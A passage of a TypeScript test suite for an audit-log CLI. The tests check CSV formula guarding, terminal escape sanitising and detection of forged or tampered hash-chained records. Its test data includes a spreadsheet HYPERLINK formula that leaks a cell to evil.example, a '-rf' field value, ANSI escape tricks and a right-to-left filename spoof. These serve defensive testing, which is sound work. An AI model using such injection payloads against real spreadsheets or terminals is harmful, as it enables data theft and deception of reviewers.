    expect(row.repository).toBe("'-rf");
    expect(row.tags).toBe("'+1 x");
    expect(r.stdout).toContain(
      `"'=HYPERLINK(""https://evil.example/?""&A1, ""ok"")\nsecond line, with ""quotes"""`,
    );
    // The record itself is unchanged: the guard is CSV's only.
    const json = JSON.parse(
      audit(['show', 'orders-worker#5', '--format', 'json'], store).stdout,
    ) as AuditRecord;
    expect(json.summary).toBe(summary);
    // And the chain, with the new record, still verifies.
    expect(audit(['verify', '--pipeline', 'orders-worker'], store).status).toBe(0);
  });

  it("a reviewer who wrote no summary is not shown saying the decision's", async () => {
    const store = await copyWithResolution({ summary: null });
    const args = ['--pipeline', 'orders-worker', '--since', '2026-11-25T09:30:00Z'];
    const csv = parseCsv(audit(['list', '--format', 'csv', ...args], store).stdout);
    const row = Object.fromEntries(HEADER.split(',').map((c, i) => [c, csv[1]![i]]));
    expect(row.summary).toBe('');
    const table = audit(['list', ...args], store).stdout;
    // The table cuts the summary: its start is enough.
    expect(table).toContain('Approved by assumed-role/SecurityEngineer/alice: (no comm');
    expect(table).not.toContain('ESCALATE by policy');
  });

  it("a reviewer's source identity is shown by show, and list --reviewer finds the resolution by it", async () => {
    const store = await copyWithResolution({ sourceIdentity: 'bob@example.com', summary: 'accepted' });
    const found = audit(['list', '--reviewer', 'bob@example.com', '--format', 'json'], store);
    expect(found.status, found.stderr).toBe(0);
    const records = JSON.parse(found.stdout) as AuditRecord[];
    expect(records.map((r) => r.resolution?.sourceIdentity)).toEqual(['bob@example.com']);
    const shown = audit(['show', `orders-worker#${records[0]!.seq}`], store);
    expect(shown.status, shown.stderr).toBe(0);
    expect(shown.stdout).toMatch(/^ {2}source identity {1}bob@example\.com$/m);
  });

  it('csvField: RFC 4180 quoting and the formula guard', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rlf')).toBe('"cr\rlf"');
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-1')).toBe("'-1");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\tx')).toBe("'\tx");
    expect(csvField('=A1,"x"')).toBe('"\'=A1,""x"""');
    expect(csvField('a=b')).toBe('a=b');
    // Spaces before the sign, and a `;` that locales splitting on it would turn into a cell of its own.
    expect(csvField(' =1+1')).toBe("' =1+1");
    expect(csvField('\u00a0@SUM(A1)')).toBe("'\u00a0@SUM(A1)");
    expect(csvField('ok;@SUM(1+1)')).toBe('"ok;@SUM(1+1)"');
    expect(csvField('')).toBe('');
    expect(csvLine(['a', 'b,c', ''])).toBe('a,"b,c",\r\n');
  });
});

describe('text that others wrote, on an auditor’s terminal', () => {
  it('printable: escape sequences, carriage returns and bidirectional overrides are shown escaped, never obeyed', () => {
    expect(printable('Rejecting: not safe\u001b[2K\u001b[1Gshipping approved\rxx')).toBe(
      'Rejecting: not safe\\u{1b}[2K\\u{1b}[1Gshipping approved\\u{d}xx',
    );
    expect(printable('admin\u202etxt.exe')).toBe('admin\\u{202e}txt.exe');
    expect(printable('\u009b31m')).toBe('\\u{9b}31m');
    // Tabs, line feeds and ordinary text (accents, ✓) stay as they are.
    expect(printable('a\tb\nc é ✓')).toBe('a\tb\nc é ✓');
  });
});

describe('tollgate audit show', () => {
  it('the whole record: header, gate, image, outcome, summary, violations, exceptions, counts, policy, chain', () => {
    const r = audit(['show', 'payments-api#1']);
    expect(r.status).toBe(0);
    expect(r.stderr).toBe('');
    const out = r.stdout;
    expect(out.split('\n')[0]).toBe('payments-api#1  decision  2026-11-25T09:00:55.000Z');
    expect(out).toMatch(/^ {2}gate +payments-api \/ Deploy \/ TollgateApproval$/m);
    expect(out).toMatch(/^ {2}execution +00000002-5c4d-4e6f-8a9b-0c1d2e3f4a5b$/m);
    expect(out).toMatch(/^ {2}image +payments\/api$/m);
    expect(out).toContain(`digest          ${PAYMENTS_DIGEST}`);
    expect(out).toMatch(/^ {2}tags +1\.4\.2$/m);
    expect(out).toMatch(/^ {2}outcome +REJECT$/m);
    expect(out).toMatch(
      /^ {2}summary +REJECT by policy baseline: no-critical \(1 CRITICAL: CVE-2024-45490\);.*unknown-severity/m,
    );
    expect(out).toMatch(/^ {2}violations +no-critical +reject +1 matching \(allow 0\): CVE-2024-45490$/m);
    expect(out).toMatch(
      /^ +known-exploited +reject +2 matching \(allow 0\): CVE-2023-44487, CVE-2024-2961$/m,
    );
    expect(out).toMatch(/^ {2}exceptions +applied +EXC-2026-001$/m);
    expect(out).toMatch(/^ +expired +EXC-2025-017$/m);
    expect(out).toMatch(/^ +revoked +EXC-2026-002$/m);
    expect(out).toMatch(/^ +unused +EXC-2026-003$/m);
    expect(out).toContain(
      'counts          CRITICAL 1  HIGH 3  MEDIUM 3  LOW 2  INFORMATIONAL 0  UNTRIAGED 1',
    );
    expect(out).toMatch(/^ {2}policy +baseline {2}sha256 [0-9a-f]{64}$/m);
    expect(out).toMatch(/^ {2}vulnerabilities 11$/m);
    expect(out).toContain('CVE-2024-45490');
    expect(out).toMatch(/^ {2}position +record 1 of pipeline payments-api$/m);
    expect(out).toContain(`prevHash        ${'0'.repeat(64)}`);
    expect(out).toContain('✓ the genesis hash: the chain starts here');
    expect(out).toMatch(/^ {2}hash +[0-9a-f]{64}$/m);
    expect(out).toContain('✓ matches the content');
  });

  it("an action and a person's resolution; <pipeline>/<seq> works too", () => {
    const action = audit(['show', 'payments-api/2']);
    expect(action.status).toBe(0);
    expect(action.stdout).toMatch(
      /^ {2}action +approval result Rejected sent to CodePipeline; answer accepted$/m,
    );
    expect(action.stdout).toContain('✓ matches record 1');
    const escalation = audit(['show', 'orders-worker#2']).stdout;
    expect(escalation).toMatch(/^ {2}action +escalation sent: Tollgate: ESCALATE orders-worker\/Deploy/m);
    const resolution = audit(['show', 'orders-worker#4']).stdout;
    expect(resolution).toMatch(
      /^ {2}actor +arn:aws:sts::123456789012:assumed-role\/SecurityEngineer\/alice$/m,
    );
    expect(resolution).toMatch(/^ {2}resolution +SUCCEEDED$/m);
    expect(resolution).toMatch(
      /^ {2}reviewer +arn:aws:sts::123456789012:assumed-role\/SecurityEngineer\/alice$/m,
    );
    expect(resolution).toMatch(/^ {2}status +Approved$/m);
    expect(resolution).toMatch(/^ {2}said +cross-spawn is a build-time dependency here/m);
  });

  it('--format json is the record as stored, as list has it', () => {
    const shown = JSON.parse(audit(['show', 'search-api#1', '--format', 'json']).stdout) as AuditRecord;
    const listed = (
      JSON.parse(audit(['list', '--format', 'json', '--pipeline', 'search-api']).stdout) as AuditRecord[]
    ).find((r) => r.seq === 1);
    expect(shown).toEqual(listed);
    expect(shown.vulnerabilities).toContain('CVE-2024-45490');
  });

  it('a record that fails a check is still shown, marked ✗, and exits 2 as verify does; --format json too', async () => {
    const forged = 'f'.repeat(64);
    const store = await copyWithEdit('payments-api', 2, 'hash', forged);
    // Its content does not hash to the hash it holds.
    const changed = audit(['show', 'payments-api#2'], store);
    expect(changed.status).toBe(2);
    expect(changed.stderr).toBe('');
    expect(changed.stdout).toMatch(/✗ the content hashes to [0-9a-f]{64}/);
    const changedJson = audit(['show', 'payments-api#2', '--format', 'json'], store);
    expect(changedJson.status).toBe(2);
    expect(changedJson.stderr).toMatch(
      new RegExp(
        `^tollgate: payments-api#2: its content hashes to [0-9a-f]{64}, not to its hash ${forged}\\n$`,
      ),
    );
    expect((JSON.parse(changedJson.stdout) as AuditRecord).hash).toBe(forged);
    // The next one is whole but no longer links to it.
    const next = audit(['show', 'payments-api#3'], store);
    expect(next.status).toBe(2);
    expect(next.stdout).toContain(`✗ record 2 has hash ${forged}`);
    expect(next.stdout).toContain('✓ matches the content');
    const nextJson = audit(['show', 'payments-api#3', '--format', 'json'], store);
    expect(nextJson.status).toBe(2);
    expect(nextJson.stderr).toMatch(
      /^tollgate: payments-api#3: its prevHash is [0-9a-f]{64}, but record 2 has hash f{64}\n$/,
    );
    // The record before is gone: no link to check, a ✗ too.
    await onStore(store, (db) =>
      db.client.send(
        new DeleteCommand({ TableName: TABLE_NAME, Key: { pk: auditPk('billing-api'), sk: auditSk(2) } }),
      ),
    );
    const orphan = audit(['show', 'billing-api#3'], store);
    expect(orphan.stdout).toContain('✗ record 2 is missing');
    expect(orphan.status).toBe(2);
    // The records whose checks hold still exit 0.
    for (const format of ['text', 'json']) {
      expect(audit(['show', 'payments-api#1', '--format', format], store).status).toBe(0);
      expect(audit(['show', 'payments-api#4', '--format', format], store).status).toBe(0);
      expect(audit(['show', 'search-api#2', '--format', format], store).status).toBe(0);
    }
  });

  it('a record that does not exist, or a malformed reference: exit 1, the reason on stderr, nothing on stdout', () => {
    const missing = audit(['show', 'payments-api#9']);
    expect(missing.status).toBe(1);
    expect(missing.stdout).toBe('');
    expect(missing.stderr).toMatch(
      /^tollgate: no record payments-api#9 in .*: the chain of payments-api has records 1–4\n$/,
    );
    const unknown = audit(['show', 'nowhere#1']);
    expect(unknown.status).toBe(1);
    expect(unknown.stderr).toMatch(/no records of pipeline nowhere/);
    const bad = audit(['show', 'payments-api']);
    expect(bad.status).toBe(1);
    expect(bad.stdout).toBe('');
    expect(bad.stderr).toMatch(
      /^tollgate: "payments-api": expected a record as <pipeline>#<seq> or <pipeline>\/<seq>/,
    );
  });
});

describe('tollgate audit list and show: a record damaged in the table', () => {
  const NAMED =
    /^tollgate: the record payments-api#2 \(item AUDIT#payments-api \/ SEQ#000000000002\) is damaged: time: expected an ISO-8601 time, got "yesterday"; "tollgate audit show payments-api#2" prints what it holds, and "tollgate audit verify" checks its chain \(the local store .*\)\n$/;

  it('list (and export) name a record whose time is no time: exit 1, nothing on stdout, never left out of a range unsaid', async () => {
    const store = await copyWithEdit('payments-api', 2, 'time', 'yesterday');
    for (const args of [
      ['list'],
      ['list', '--format', 'csv'],
      // No range holds a time that is no time: --since would have left it out, and said nothing.
      ['list', '--pipeline', 'payments-api', '--since', '2026-01-01'],
      ['list', '--since', '2026-01-01', '--format', 'json'],
      ['export', '--pipeline', 'payments-api'],
    ]) {
      const r = audit(args, store);
      expect(r.stderr, args.join(' ')).toMatch(NAMED);
      expect(r.status, args.join(' ')).toBe(1);
      expect(r.stdout, args.join(' ')).toBe('');
    }
    // The other chains still list.
    expect(ids(['--pipeline', 'search-api'], store)).toEqual(chain('search-api', 4, 3, 2, 1));
  });

  it('list names a record that lacks a field it prints (the gate): the field, what was expected, what came', async () => {
    const store = await copyWithRemoved('payments-api', 2, 'gate');
    for (const format of ['table', 'csv', 'json']) {
      const r = audit(['list', '--pipeline', 'payments-api', '--format', format], store);
      expect(r.stderr, format).toMatch(
        /^tollgate: the record payments-api#2 \(item AUDIT#payments-api \/ SEQ#000000000002\) is damaged: gate: expected a map \(the gate\), got nothing; /,
      );
      expect(r.status, format).toBe(1);
      expect(r.stdout, format).toBe('');
    }
  });

  it('show prints what a damaged record has, absent fields as absent, and exits 2 through its hash check', async () => {
    const store = await copyWithRemoved('payments-api', 2, 'gate');
    const r = audit(['show', 'payments-api#2'], store);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(2);
    const lines = r.stdout.split('\n');
    expect(lines[0]).toMatch(/^payments-api#2 {2}action {2}2026-11-25T\S+$/);
    expect(lines[1]).toBe(
      '  damaged                   ✗ not as Tollgate writes it: gate: expected a map (the gate), got nothing; each field as stored:',
    );
    expect(lines).toContain('  gate                      (absent)');
    expect(lines).toContain('  actor                     tollgate');
    expect(r.stdout).toMatch(/^ {2}summary {19}.*REJECT/m);
    expect(r.stdout).toMatch(/^ {28}✗ the content hashes to [0-9a-f]{64}$/m);
    const json = audit(['show', 'payments-api#2', '--format', 'json'], store);
    expect(json.status).toBe(2);
    expect(json.stderr).toMatch(
      /^tollgate: payments-api#2: its content hashes to [0-9a-f]{64}, not to its hash/,
    );
    expect(JSON.parse(json.stdout)).not.toHaveProperty('gate');
    // A record whose time is no time is shown as it came.
    const edited = await copyWithEdit('payments-api', 2, 'time', 'yesterday');
    const shown = audit(['show', 'payments-api#2'], edited);
    expect(shown.status).toBe(2);
    expect(shown.stdout).toMatch(/^payments-api#2 {2}action {2}yesterday$/m);
    expect(shown.stdout).toContain('  time                      yesterday\n');
  });

  it('show exits 2 for a damaged record that was re-hashed: its hash checks pass, its damage does not', async () => {
    // A decision with its violations taken out, chained and hashed anew after orders-worker's 4 records.
    const store = await copyWithRecord((decision) => {
      const { violations: _, ...rest } = decision;
      return rest as unknown as AuditEntry;
    });
    const r = audit(['show', 'orders-worker#5'], store);
    expect(r.stdout).toMatch(/✓ matches the content/);
    expect(r.stdout).toContain('damaged');
    expect(r.status).toBe(2);
    const json = audit(['show', 'orders-worker#5', '--format', 'json'], store);
    expect(json.status).toBe(2);
    expect(json.stderr).toBe(
      'tollgate: orders-worker#5 is not as Tollgate writes it: violations: expected a list of rule results (rule, action, findings), got nothing\n',
    );
  });
});

describe('tollgate audit verify', () => {
  it('the demo chains verify: exit 0, records checked per pipeline', () => {
    const r = audit(['verify']);
    expect(r.status).toBe(0);
    expect(r.stderr).toBe('');
    expect(r.stdout).toMatch(/^✓ payments-api +4 record\(s\) verified$/m);
    expect(r.stdout).toMatch(/^✓ batch-reports +2 record\(s\) verified$/m);
    expect(r.stdout.trimEnd().split('\n')).toHaveLength(11);
    expect(r.stdout.trimEnd().split('\n').at(-1)).toBe('OK: 36 record(s) in 10 chain(s) verified');
    const one = audit(['verify', '--pipeline', 'orders-worker', '--format', 'json']);
    expect(one.status).toBe(0);
    expect(JSON.parse(one.stdout)).toMatchObject({
      ok: true,
      records: 4,
      firstProblem: null,
      pipelines: [{ pipeline: 'orders-worker', records: 4, head: 4, ok: true }],
    });
    const none = audit(['verify', '--pipeline', 'nowhere']);
    expect(none.status).toBe(1);
    expect(none.stdout).toBe('');
    expect(none.stderr).toMatch(/^tollgate: no records of pipeline nowhere/);
  });

  it('a store a simulation filled is dated by its scenario, any day: verify and list take no date for a forgery', () => {
    // A scenario may start any time (its `start`): 2099 here, far past this machine's clock.
    const s = JSON.parse(
      readFileSync(join(ROOT, 'examples/scenarios/01-clean-image-approved.json'), 'utf8'),
    ) as {
      start?: string;
      policy: string;
      world: { findings: Record<string, { file: string }> };
    };
    s.start = '2099-01-01T09:00:00Z';
    s.policy = join(ROOT, 'examples/policies/baseline.yaml');
    for (const f of Object.values(s.world.findings)) f.file = join(ROOT, 'examples/scenarios', f.file);
    const dir = mkdtempSync(join(tmp, 'future-'));
    const file = join(dir, 'later.json');
    writeFileSync(file, JSON.stringify(s));
    const store = join(dir, 'store');
    expect(tollgate(['simulate', file, '--store', store]).status).toBe(0);
    const verified = audit(['verify'], store);
    expect(verified.stderr).toBe('');
    expect(verified.status).toBe(0);
    const listed = audit(['list', '--format', 'json'], store);
    expect(listed.status).toBe(0);
    expect((JSON.parse(listed.stdout) as { time: string }[])[0]!.time).toMatch(/^2099-01-01T09:/);
  });

  it("a record's summary edited in the table: exit 2, naming it (changed)", async () => {
    const store = await copyWithEdit(
      'payments-api',
      2,
      'summary',
      'APPROVE by policy baseline: no violations',
    );
    const r = audit(['verify'], store);
    expect(r.status).toBe(2);
    expect(r.stderr).toBe('');
    expect(r.stdout).toMatch(
      /^✗ payments-api +\d+ record\(s\) read: changed at payments-api#2: record 2 was changed/m,
    );
    expect(r.stdout).toMatch(/^✓ search-api +4 record\(s\) verified$/m);
    expect(r.stdout.trimEnd().split('\n').at(-1)).toMatch(
      /^FAILED: 1 of 10 chain\(s\) do not verify; the first bad record is payments-api#2 \(changed\)/,
    );
    // The other chains alone still verify; `show` marks the record.
    expect(audit(['verify', '--pipeline', 'search-api'], store).status).toBe(0);
    expect(audit(['show', 'payments-api#2'], store).stdout).toMatch(/✗ the content hashes to [0-9a-f]{64}/);
    // The README shows this very edit: its lines are what verify prints (the demo's hashes move when it does).
    const shown = r.stdout.split('\n').find((l) => l.startsWith('✗ payments-api'));
    expect(shown).toBeDefined();
    expect(readme()).toContain(`${shown}\n`);
    expect(readme()).toContain(`${r.stdout.trimEnd().split('\n').at(-1)}\n`);
  });

  it("a record's time removed, or made no time, in the table: exit 2 naming it (changed), and every other chain still verified", async () => {
    for (const store of [
      await copyWithRemoved('payments-api', 2, 'time'),
      await copyWithEdit('payments-api', 2, 'time', 'yesterday'),
    ]) {
      const r = audit(['verify'], store);
      expect(r.stderr).toBe('');
      expect(r.status).toBe(2);
      expect(r.stdout).toMatch(
        /^✗ payments-api +4 record\(s\) read: changed at payments-api#2: record 2 was changed/m,
      );
      // The chains after it are checked too.
      expect(r.stdout).toMatch(/^✓ search-api +4 record\(s\) verified$/m);
      expect(r.stdout).toMatch(/^✓ web-frontend +4 record\(s\) verified$/m);
      expect(r.stdout.trimEnd().split('\n').at(-1)).toMatch(
        /^FAILED: 1 of 10 chain\(s\) do not verify; the first bad record is payments-api#2 \(changed\)/,
      );
    }
  });

  it('a record deleted: exit 2, naming it (missing)', async () => {
    const store = copyOfStore();
    await onStore(store, (db) =>
      db.client.send(
        new DeleteCommand({ TableName: TABLE_NAME, Key: { pk: auditPk('billing-api'), sk: auditSk(2) } }),
      ),
    );
    const r = audit(['verify', '--format', 'json'], store);
    expect(r.status).toBe(2);
    const result = JSON.parse(r.stdout) as {
      ok: boolean;
      firstProblem: { pipeline: string; seq: number; kind: string };
    };
    expect(result.ok).toBe(false);
    expect(result.firstProblem).toMatchObject({ pipeline: 'billing-api', seq: 2, kind: 'missing' });
    expect(audit(['verify'], store).stdout).toMatch(/first bad record is billing-api#2 \(missing\)/);
  });

  it("the last record deleted: the chain's head says it is missing", async () => {
    const store = copyOfStore();
    await onStore(store, (db) =>
      db.client.send(
        new DeleteCommand({ TableName: TABLE_NAME, Key: { pk: auditPk('web-frontend'), sk: auditSk(4) } }),
      ),
    );
    const r = audit(['verify', '--pipeline', 'web-frontend'], store);
    expect(r.status).toBe(2);
    expect(r.stdout).toMatch(/first bad record is web-frontend#4 \(missing\)/);
  });

  it('a record forged after the last one, its hash recomputed, the head left alone: exit 2 (past the head)', async () => {
    const store = copyOfStore();
    await onStore(store, async (db) => {
      const get = async (seq: number) =>
        (
          await db.client.send(
            new GetCommand({
              TableName: TABLE_NAME,
              Key: { pk: auditPk('orders-worker'), sk: auditSk(seq) },
            }),
          )
        ).Item!;
      const last = await get(4);
      const record = last.record as AuditRecord;
      const forged = chainRecord(
        {
          ...record,
          type: 'resolution',
          actor: 'arn:aws:sts::123456789012:assumed-role/admin/mallory',
          summary: 'approved',
        },
        'orders-worker',
        { seq: record.seq, hash: record.hash },
      );
      // Written by hand: the record item alone, without moving the head as Tollgate's transaction does.
      await db.client.send(
        new PutCommand({ TableName: TABLE_NAME, Item: { ...last, sk: auditSk(5), record: forged } }),
      );
    });
    const r = audit(['verify', '--pipeline', 'orders-worker'], store);
    expect(r.status).toBe(2);
    expect(r.stdout).toMatch(
      /first bad record is orders-worker#5 \(head-mismatch\): record 5 is past the chain's head \(record 4\)/,
    );
  });

  it("another chain's genesis record, hashed right, forged into a chain's partition: verify, show and list all refuse it", async () => {
    const store = copyOfStore();
    await onStore(store, async (db) => {
      const last = (
        await db.client.send(
          new GetCommand({ TableName: TABLE_NAME, Key: { pk: auditPk('orders-worker'), sk: auditSk(4) } }),
        )
      ).Item!;
      const record = last.record as AuditRecord;
      // Record 1 of a chain "ghost-api": read by its own pipeline field, a whole chain that verified.
      const forged = chainRecord(
        { ...record, outcome: 'APPROVE', summary: 'APPROVE forged' },
        'ghost-api',
        undefined,
      );
      await db.client.send(
        new PutCommand({
          TableName: TABLE_NAME,
          Item: { ...auditRecordItem(forged), pk: auditPk('orders-worker'), sk: auditSk(99) },
        }),
      );
    });
    const verify = audit(['verify', '--pipeline', 'orders-worker'], store);
    expect(verify.status).toBe(2);
    expect(verify.stdout).toMatch(
      /first bad record is orders-worker#99 \(changed\): the item AUDIT#orders-worker \/ SEQ#000000000099 holds record ghost-api#1/,
    );
    expect(audit(['verify', '--scan'], store).status).toBe(2);
    for (const format of ['text', 'json']) {
      const show = audit(['show', 'orders-worker#99', '--format', format], store);
      expect(show.status, format).toBe(2);
      expect(show.stderr, format).toMatch(
        /^tollgate: the item of orders-worker#99 holds record ghost-api#1: not the record asked for/,
      );
    }
    const list = audit(['list', '--outcome', 'APPROVE'], store);
    expect(list.status).toBe(1);
    expect(list.stdout).toBe('');
    expect(list.stderr).toMatch(/orders-worker#99 .*is damaged: pipeline, seq: .*got ghost-api#1/);
  });

  it("a chain deleted whole, head and all, while the registry still lists it: exit 2 (missing), not 'verified'", async () => {
    const store = copyOfStore();
    await onStore(store, async (db) => {
      for (const sk of [auditSk(1), auditSk(2), auditSk(3), auditSk(4), 'HEAD'])
        await db.client.send(
          new DeleteCommand({ TableName: TABLE_NAME, Key: { pk: auditPk('payments-api'), sk } }),
        );
    });
    for (const args of [['verify'], ['verify', '--pipeline', 'payments-api']]) {
      const r = audit(args, store);
      expect(r.status, args.join(' ')).toBe(2);
      expect(r.stdout).toMatch(
        /first bad record is payments-api#1 \(missing\): the registry lists the chain/,
      );
    }
  });

  it("a chain's registry item deleted: verify --scan finds the chain the registry no longer lists (exit 2)", async () => {
    const store = copyOfStore();
    await onStore(store, (db) =>
      db.client.send(
        new DeleteCommand({ TableName: TABLE_NAME, Key: { pk: 'AUDIT-PIPELINES', sk: 'payments-api' } }),
      ),
    );
    // Without --scan, the registry is all verify knows: the chain is not visited (the README says so).
    const plain = audit(['verify'], store);
    expect(plain.status).toBe(0);
    expect(plain.stdout).not.toContain('payments-api');
    const scanned = audit(['verify', '--scan'], store);
    expect(scanned.status).toBe(2);
    expect(scanned.stdout).toMatch(
      /^✗ payments-api .*missing at payments-api#1: the registry does not list this chain/m,
    );
    // Named, the chain is checked against the registry too.
    const named = audit(['verify', '--pipeline', 'payments-api'], store);
    expect(named.status).toBe(2);
    expect(named.stdout).toContain('the registry does not list this chain');
    // An intact table: --scan finds nothing more.
    expect(audit(['verify', '--scan']).status).toBe(0);
  });

  it("a record's REPO# index item deleted: list --repository misses it, verify --scan names it (exit 2)", async () => {
    const store = copyOfStore();
    await onStore(store, async (db) => {
      const record = (
        await db.client.send(
          new GetCommand({ TableName: TABLE_NAME, Key: { pk: auditPk('payments-api'), sk: auditSk(2) } }),
        )
      ).Item?.record as AuditRecord;
      const item = transactionalIndexItems(record)[0]!;
      await db.client.send(new DeleteCommand({ TableName: TABLE_NAME, Key: { pk: item.pk, sk: item.sk } }));
    });
    expect(ids(['--repository', 'payments/api'], store)).not.toContain('payments-api#2');
    expect(audit(['verify'], store).status).toBe(0);
    for (const args of [
      ['verify', '--scan'],
      ['verify', '--scan', '--pipeline', 'payments-api'],
    ]) {
      const r = audit(args, store);
      expect(r.status, args.join(' ')).toBe(2);
      expect(r.stdout).toMatch(
        /first bad record is payments-api#2 \(unindexed\): record 2's index item REPO#payments\/api is missing: list --repository does not find it/,
      );
    }
  });

  it('two records swapped: exit 2, naming the first (reordered)', async () => {
    const store = copyOfStore();
    await onStore(store, async (db) => {
      const key = (seq: number) => ({ pk: auditPk('search-api'), sk: auditSk(seq) });
      const get = async (seq: number) =>
        (await db.client.send(new GetCommand({ TableName: TABLE_NAME, Key: key(seq) }))).Item!;
      const [two, three] = [await get(2), await get(3)];
      // Each item keeps its key, and takes the other's record.
      await db.client.send(new PutCommand({ TableName: TABLE_NAME, Item: { ...two, record: three.record } }));
      await db.client.send(new PutCommand({ TableName: TABLE_NAME, Item: { ...three, record: two.record } }));
    });
    const r = audit(['verify'], store);
    expect(r.status).toBe(2);
    expect(r.stdout).toMatch(/^✗ search-api .*reordered at search-api#2/m);
    expect(r.stdout.trimEnd().split('\n').at(-1)).toMatch(
      /the first bad record is search-api#2 \(reordered\)/,
    );
  });
});

describe('tollgate audit verify --archive', () => {
  /** The demo's records as the archive function writes them, in a folder as `aws s3 sync` leaves it. */
  function archiveOfDemo(): string {
    const r = audit(['export']);
    expect(r.status).toBe(0);
    const records = r.stdout
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as AuditRecord);
    const folder = join(tmp, `archive-${++copies}`);
    for (const object of archiveObjects(records)) {
      const file = join(folder, object.key);
      mkdirSync(dirname(file), { recursive: true });
      writeFileSync(file, object.body);
    }
    return folder;
  }

  it('an intact table: exit 0, every chain matched against the archive', () => {
    const archive = archiveOfDemo();
    const r = audit(['verify', '--archive', archive]);
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    expect(r.stdout).toMatch(
      /^✓ payments-api +4 record\(s\) verified; archive: 4 of 4 archived record\(s\) match$/m,
    );
    expect(r.stdout).toMatch(
      new RegExp(`^Archive: 36 record\\(s\\) in \\d+ object\\(s\\) of the folder ${archive}$`, 'm'),
    );
    expect(r.stdout.trimEnd().split('\n').at(-1)).toBe(
      'OK: 36 record(s) in 10 chain(s) verified, and every archived record is in the table unchanged',
    );
  });

  it('a record whose time is no time, not in the archive: named with its time as it came (exit 2), the other chains compared', async () => {
    // The archive lacks payments-api#4, as if the archive function had failed on it; in the table its time
    // was made no time. The comparison judges it by that time: it must say so, not fail on it.
    const records = demoRecords().filter((x) => !(x.pipeline === 'payments-api' && x.seq === 4));
    const folder = join(tmp, `archive-${++copies}`);
    for (const object of archiveObjects(records)) {
      const file = join(folder, object.key);
      mkdirSync(dirname(file), { recursive: true });
      writeFileSync(file, object.body);
    }
    for (const [store, when] of [
      [await copyWithEdit('payments-api', 4, 'time', 'yesterday'), 'at "yesterday" (not a time)'],
      [await copyWithRemoved('payments-api', 4, 'time'), 'with no time (the record has none)'],
    ] as const) {
      const r = audit(['verify', '--archive', folder], store);
      expect(r.stderr).toBe('');
      expect(r.status).toBe(2);
      expect(r.stdout).toMatch(
        new RegExp(
          `^✗ payments-api +4 record\\(s\\) read: changed at payments-api#4: .*; archive: not-archived at payments-api#4: the table's record payments-api#4 is not in the archive, after the archive's last record of the chain \\(#3\\), and written ${when.replace(/[()]/g, '\\$&')}, longer ago`,
          'm',
        ),
      );
      expect(r.stdout).toMatch(
        /^✓ search-api +4 record\(s\) verified; archive: 4 of 4 archived record\(s\) match$/m,
      );
    }
  });

  it('a chain rewritten, re-hashed and its head moved: verify alone says OK, --archive says rewritten (exit 2)', async () => {
    const archive = archiveOfDemo();
    const store = copyOfStore();
    await onStore(store, async (db) => {
      const key = (seq: number) => ({ pk: auditPk('payments-api'), sk: auditSk(seq) });
      let previous: AuditRecord | undefined;
      for (let seq = 1; seq <= 4; seq++) {
        const item = (await db.client.send(new GetCommand({ TableName: TABLE_NAME, Key: key(seq) }))).Item!;
        const { hash: _h, prevHash: _p, seq: _s, pipeline, ...content } = item.record as AuditRecord;
        // Record 2 (the REJECT) made to read as an approval; every later record re-chained to it.
        const changed =
          seq === 2
            ? { ...content, outcome: 'APPROVE' as const, summary: 'APPROVE by policy baseline' }
            : content;
        const record: AuditRecord =
          seq === 1 ? (item.record as AuditRecord) : chainRecord(changed, pipeline, previous);
        // Its index keys written as Tollgate would (an outcome key left REJECT is what verify checks too).
        await db.client.send(new PutCommand({ TableName: TABLE_NAME, Item: auditRecordItem(record) }));
        previous = record;
      }
      await db.client.send(
        new UpdateCommand({
          TableName: TABLE_NAME,
          Key: { pk: auditPk('payments-api'), sk: 'HEAD' },
          UpdateExpression: 'SET #h = :h',
          ExpressionAttributeNames: { '#h': 'hash' },
          ExpressionAttributeValues: { ':h': previous!.hash },
        }),
      );
    });
    // The table's own verification cannot tell: every hash, link and index key holds, the head names the last.
    expect(audit(['verify'], store).status).toBe(0);
    const r = audit(['verify', '--archive', archive], store);
    expect(r.status).toBe(2);
    expect(r.stdout).toMatch(
      /^✗ payments-api +4 record\(s\) verified; archive: rewritten at payments-api#2: the table's record payments-api#2 \(hash [0-9a-f]{12}…\) is not the one archived \([0-9a-f]{12}…, .*\.jsonl, line \d+\) \(and 2 more\)$/m,
    );
    expect(r.stdout).toMatch(/^✓ search-api /m);
    expect(r.stdout.trimEnd().split('\n').at(-1)).toMatch(
      /^FAILED: 1 of 10 chain\(s\) do not verify; the first bad record is payments-api#2 \(rewritten\)/,
    );
    // The README shows this very rewrite, its archive an export named before.jsonl: the same hashes.
    const [, table, archived] =
      /\(hash ([0-9a-f]{12})…\) is not the one archived \(([0-9a-f]{12})…/.exec(r.stdout) ?? [];
    expect(readme()).toContain(`(hash ${table}…) is not the one archived (${archived}…, before.jsonl, line`);
    const json = JSON.parse(audit(['verify', '--archive', archive, '--format', 'json'], store).stdout) as {
      ok: boolean;
      firstProblem: { pipeline: string; seq: number; kind: string };
      archive: { records: number };
      pipelines: { pipeline: string; archive: { problems: { kind: string; seq: number }[] } }[];
    };
    expect(json.ok).toBe(false);
    expect(json.firstProblem).toMatchObject({ pipeline: 'payments-api', seq: 2, kind: 'rewritten' });
    expect(json.archive.records).toBe(36);
    expect(
      json.pipelines.find((p) => p.pipeline === 'payments-api')!.archive.problems.map((p) => [p.kind, p.seq]),
    ).toEqual([
      ['rewritten', 2],
      ['rewritten', 3],
      ['rewritten', 4],
    ]);
  });

  it('a chain deleted whole with its registry item: the archive still names it (deleted, exit 2); --pipeline reads one chain', async () => {
    const archive = archiveOfDemo();
    const store = copyOfStore();
    await onStore(store, async (db) => {
      for (const [pk, sk] of [
        ...[1, 2, 3, 4].map((seq) => [auditPk('billing-api'), auditSk(seq)]),
        [auditPk('billing-api'), 'HEAD'],
        ['AUDIT-PIPELINES', 'billing-api'],
      ])
        await db.client.send(new DeleteCommand({ TableName: TABLE_NAME, Key: { pk, sk } }));
    });
    expect(audit(['verify'], store).status).toBe(0);
    const r = audit(['verify', '--archive', archive], store);
    expect(r.status).toBe(2);
